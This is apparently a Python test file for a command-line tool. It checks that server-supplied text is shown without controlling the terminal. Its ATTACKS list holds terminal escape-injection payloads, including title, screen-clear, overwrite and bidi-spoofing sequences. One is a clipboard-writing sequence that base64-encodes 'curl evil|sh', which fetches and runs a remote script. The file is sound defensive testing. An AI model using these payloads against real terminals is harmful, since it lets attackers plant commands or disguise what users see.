"""What others wrote does not steer the terminal it is shown on: no escapes, no turned text, whatever the command."""

from __future__ import annotations

import ast
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli import output

CLI = Path(__file__).parents[2] / "cli"
ATTACKS = (
    "\x1b]0;title\x07",
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # puts a command onto the clipboard
    "\x1b[2J\x1b[H",
    "\x9b31m",  # the same as ESC [, in one character
    "good\rEVIL",
    "back\x08\x08\x08\x08",
    "user\u202etxt.exe",
    "\u2066if admin\u2069",
    "\x00\x7f\x85",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_server_tells_is_shown_not_obeyed(attack: str, capsys: pytest.CaptureFixture[str]) -> None:
    output.say(f"NAME  {attack}")
    output.complain(f"error: {attack}")
    told = capsys.readouterr()
    for text in (told.out, told.err):
        assert not [each for each in text if unicodedata.category(each) == "Cc" and each != "\n"]
        assert not set(text) & output._TURNING
        assert "\\u" in text


@given(st.text())
def test_any_text_is_harmless_and_what_is_harmless_stays(text: str) -> None:
    shown = output.plain(text)
    assert not [each for each in shown if output._steers(each)]
    if not [each for each in text if output._steers(each)]:
        assert shown == text


@given(st.dictionaries(st.text(), st.text()))
def test_json_stays_the_same_json(value: dict[str, str]) -> None:
    assert json.loads(output.plain(output.as_json(value))) == value


def test_nothing_else_of_the_cli_writes_to_a_terminal() -> None:
    for file in CLI.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id != "print", file
            if isinstance(node, ast.Attribute) and node.attr == "write" and file.name != "output.py":
                assert "sys" not in ast.unparse(node.value), f"{file}: {ast.unparse(node)}"
